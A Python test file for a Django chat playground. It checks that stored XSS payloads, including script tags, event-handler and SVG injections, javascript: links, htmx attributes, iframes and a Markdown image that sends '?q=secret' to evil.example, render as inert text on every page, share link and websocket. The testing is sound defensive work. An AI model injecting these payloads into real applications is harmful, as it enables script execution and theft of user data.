"""Stored XSS, the class of Open WebUI CVE-2026-44568: text a person or a model controls,
saved and shown later to its owner (or to a share link's viewer), must reach the browser as
text. Each payload goes through every place such text is shown (model output, reasoning,
session titles, endpoint names and model ids, key labels, team names, tool-call JSON, error
text) and the HTML the page or the websocket delivers is read as a browser would: no script
but the site's own files, no event handler, no javascript: link, no htmx attribute carrying
the payload, no element the payload made (SVG, image, iframe), and every page carries the
Content-Security-Policy that would refuse them anyway.

A Markdown image (``![x](https://evil.example/?q=secret)``) is never an <img>: the
sanitizer shows it as a link labelled "[image: x]" that is only followed if clicked
(playground/rendering.py), and the CSP's ``img-src 'self' data:`` would refuse the request
if it ever were an image.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from channels.testing import WebsocketCommunicator
from django.conf import settings
from django.test import Client
from django.urls import reverse

from playground.live.fragments import render_batch
from playground.live.response_log import Batch
from playground.models import ActiveTeam, Audience, Membership, Response, Status, Team
from tests.playground.helpers import make_endpoint, make_turn, responses_of
from tests.playground.share_helpers import link_to, shared_url
from tests.playground.test_keys import saved_key

MARK = "pwn"
# Each at most 80 characters (the shortest field: names and labels), each carrying MARK.
PAYLOADS = {
    "script": "<script>alert('pwn')</script>",
    "attribute breakout": '"><script>alert("pwn")</script>',
    "single-quote breakout": "' onmouseover='alert(\"pwn\")' x='",
    "event handler": "<img src=x onerror=alert('pwn')>",
    "javascript link": "<a href=\"javascript:alert('pwn')\">pwn</a>",
    "markdown javascript link": "[pwn](javascript:alert(1))",
    "hx attributes": '<div hx-get="/pwn/" hx-trigger="load" hx-swap-oob="true">x</div>',
    "svg onload": "<svg onload=alert('pwn')><circle r=9></svg>",
    "markdown image exfiltration": "![pwn](https://evil.example/?q=secret)",
    "iframe": '<iframe src="https://evil.example/pwn"></iframe>',
}


# Attributes whose value the browser only shows (hx-confirm: the text of a confirm() dialog).
SHOWN_AS_TEXT = {"value", "title", "aria-label", "alt", "placeholder", "hx-confirm"}


class Page(HTMLParser):
    """The elements a browser would build from the HTML: (tag, attributes)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))


def assert_inert(html: str) -> None:
    """Nothing in ``html`` runs, loads or acts: the payloads arrived as text."""
    for tag, attributes in Page(html).elements:
        where = f"<{tag} {attributes}>"
        if tag == "script":
            assert attributes.get("src", "").startswith("/static/"), where
        assert tag not in {"iframe", "object", "embed", "svg", "img"}, where
        for name, value in attributes.items():
            assert not name.startswith("on"), where
            if name.startswith(("hx-", "data-hx-", "ws-")) and name not in SHOWN_AS_TEXT:
                assert MARK not in value, where
            if name in {"href", "src", "action", "formaction"}:
                scheme = value.strip().lower().split(":", 1)[0]
                assert scheme not in {"javascript", "vbscript", "data"}, where
            if MARK in value:
                assert name in SHOWN_AS_TEXT | {"href"}, where


def assert_page_inert(response: Any) -> str:
    assert response.status_code == 200
    policy = response["Content-Security-Policy"]
    assert "'unsafe-inline'" not in policy and "img-src 'self' data:" in policy
    html = response.content.decode()
    assert_inert(html)
    return html


def payload_cases() -> Any:
    return pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))


def finished_turn(owner: Any, payload: str) -> Response:
    """A finished answer whose every model-made part is ``payload``."""
    turn = make_turn(owner, [("echo", {})], f"Tell me about {payload}", status=Status.DONE)
    turn.session.title = payload
    turn.session.save()
    response = responses_of(turn)[0]
    response.text = f"Here it is: {payload}\n\n{payload}"
    response.reasoning = payload
    response.error = f"The model failed: {payload}"
    response.tool_calls = [
        {"id": "call_1", "name": payload, "arguments": json.dumps({"q": payload})}
    ]
    response.save()
    return response


@pytest.mark.django_db
@payload_cases()
def test_open_webui_cve_2026_44568_model_output_title_tools_and_error_on_the_session_page(
    owner: Any, owner_client: Client, payload: str
) -> None:
    response = finished_turn(owner, payload)

    html = assert_page_inert(owner_client.get(reverse("session", args=[response.turn.session_id])))

    assert "Here it is:" in html  # the answer is there, as text
    assert "The model failed:" in html
    if payload.startswith("!["):
        assert "[image: pwn]" in html  # shown as a link to click, never fetched


@pytest.mark.django_db
@payload_cases()
def test_open_webui_cve_2026_44568_session_title_in_the_sidebar_list_and_search(
    owner: Any, owner_client: Client, payload: str
) -> None:
    finished_turn(owner, payload)

    assert_page_inert(owner_client.get(reverse("home")))
    assert_page_inert(owner_client.get(reverse("session_list"), HTTP_HX_REQUEST="true"))
    found = owner_client.get(reverse("session_search"), {"q": "Here"}, HTTP_HX_REQUEST="true")
    assert_page_inert(found)


@pytest.mark.django_db
@payload_cases()
def test_open_webui_cve_2026_44568_model_output_through_a_share_link(
    owner: Any, client: Client, payload: str
) -> None:
    response = finished_turn(owner, payload)
    _link, token = link_to(response.turn.session, Audience.ANYONE)

    html = assert_page_inert(client.get(shared_url(token)))

    assert "Here it is:" in html


@pytest.mark.django_db
@payload_cases()
def test_open_webui_cve_2026_44568_endpoint_names_and_model_ids(
    owner: Any, owner_client: Client, payload: str
) -> None:
    make_endpoint(owner, name=payload, model_ids=[payload[:200]])

    assert_page_inert(owner_client.get(reverse("endpoints")))
    assert_page_inert(owner_client.get(reverse("home")))  # the Model picker


@pytest.mark.django_db
@payload_cases()
def test_open_webui_cve_2026_44568_key_labels(
    owner: Any, owner_client: Client, payload: str
) -> None:
    saved_key(payload, user=owner)
    response = finished_turn(owner, "a title")
    Response.objects.filter(pk=response.pk).update(key_label=f"your key '{payload}'")

    assert_page_inert(owner_client.get(reverse("keys")))
    assert_page_inert(owner_client.get(reverse("session", args=[response.turn.session_id])))


@pytest.mark.django_db
@payload_cases()
def test_open_webui_cve_2026_44568_team_names(
    owner: Any, owner_client: Client, payload: str
) -> None:
    team = Team.objects.create(name=payload)
    Membership.objects.create(team=team, user=owner, role="owner")
    ActiveTeam.objects.create(user=owner, team=team)

    assert_page_inert(owner_client.get(reverse("teams")))
    assert_page_inert(owner_client.get(reverse("team", args=[team.pk])))
    assert_page_inert(owner_client.get(reverse("home")))  # "Working in" picker
    assert_page_inert(owner_client.get(reverse("usage")))


@payload_cases()
def test_open_webui_cve_2026_44568_streaming_text_in_the_websocket_fragment(payload: str) -> None:
    """What a streaming pane receives many times a second: appended as text."""
    fragment = render_batch(7, Batch(last_seq=3, text=payload, reasoning=payload))

    assert_inert(fragment)
    assert fragment.count("<div") == 3  # the text's, the reasoning's and the status line


# ---------------------------------------------------------------- through the real socket


def _cookie(user: Any) -> tuple[bytes, bytes]:
    browser = Client()
    browser.force_login(user)
    key = browser.cookies[settings.SESSION_COOKIE_NAME].value
    return (b"cookie", f"{settings.SESSION_COOKIE_NAME}={key}".encode())


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("consumer_redis")
async def test_open_webui_cve_2026_44568_the_finished_answer_the_websocket_sends(
    owner: Any, aredis: Any
) -> None:
    """A pane that ends while followed gets its finished article from the socket: every
    payload at once in the answer, reasoning, tool call and error."""
    from playground.asgi import application

    everything = "\n\n".join(PAYLOADS.values())

    @sync_to_async
    def streaming() -> Response:
        response = finished_turn(owner, everything[:200])
        Response.objects.filter(pk=response.pk).update(status=Status.STREAMING)
        return response

    response = await streaming()
    headers = [await sync_to_async(_cookie)(owner), (b"origin", b"http://127.0.0.1")]
    ws = WebsocketCommunicator(
        application, f"/ws/sessions/{response.turn.session_id}/", headers=headers
    )
    ok, _ = await ws.connect(timeout=5)
    assert ok
    try:
        await ws.send_json_to(
            {"type": "follow", "control": "0-0", "responses": {str(response.pk): 0}}
        )
        log = f"pg:log:{response.pk}"
        await aredis.xadd(log, {"k": "d", "t": everything, "n": 1, "ms": 5, "ttft": 5}, id="0-1")
        streamed = await ws.receive_from(timeout=5)
        assert_inert(streamed)
        assert MARK in streamed  # it did carry the payloads, as text

        await sync_to_async(Response.objects.filter(pk=response.pk).update)(
            status=Status.DONE, text=everything, reasoning=everything
        )
        await aredis.xadd(log, {"k": "e", "st": "done"}, id="0-2")
        final = await ws.receive_from(timeout=5)
        assert final.startswith("<article")
        assert_inert(final)
        assert "[image: pwn]" in final
    finally:
        await ws.disconnect()
